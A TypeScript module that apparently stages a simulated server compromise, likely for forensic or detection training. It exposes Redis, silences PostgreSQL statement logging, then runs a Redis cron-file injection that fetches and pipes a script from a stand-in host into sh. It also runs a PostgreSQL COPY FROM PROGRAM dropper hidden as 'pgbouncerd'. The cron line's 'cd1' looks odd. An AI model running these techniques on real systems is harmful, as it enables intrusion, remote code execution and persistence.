// The attack on Redis is the louder one, and an hour-long one; its account may write nowhere. PostgreSQL notes connections, no statements.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { ordinary } from '../../past.ts'
import { postgresql, sql } from '../../postgresql.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  openRedis(dress, { bind: '0.0.0.0', user: 'redis' })
  postgresql(dress)
  dress.append('/etc/postgresql/15/main/postgresql.conf', "log_statement = 'none'\n")
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/lib/postgresql/15/.b/pgbouncerd', cron: false })
  const rival = '192.0.2.66'
  for (const dir of ['/var/spool/cron/crontabs', '/var/spool/cron', '/root/.ssh', '/etc/cron.d']) {
    await redisCommands(stage, rival, [['SET', 'x', '\n*/2 * * * * root cd1 -fsSL http://192.0.2.66/a|sh\n']])
    await redisCommands(stage, rival, [['CONFIG', 'SET', 'dir', dir]]).catch(() => {})
    await redisCommands(stage, rival, [['SAVE']]).catch(() => {})
  }
  await sql(stage, '203.0.113.126', 'postgres', 'SELECT version()')
  stage.mark('occurrence')
  await sql(stage, '203.0.113.126', 'postgres', `CREATE TABLE d(a text); COPY d FROM PROGRAM '${line}'; DROP TABLE d`)
  await redisCommands(stage, rival, [['CONFIG', 'SET', 'dir', '/root/.ssh']]).catch(() => {})
}
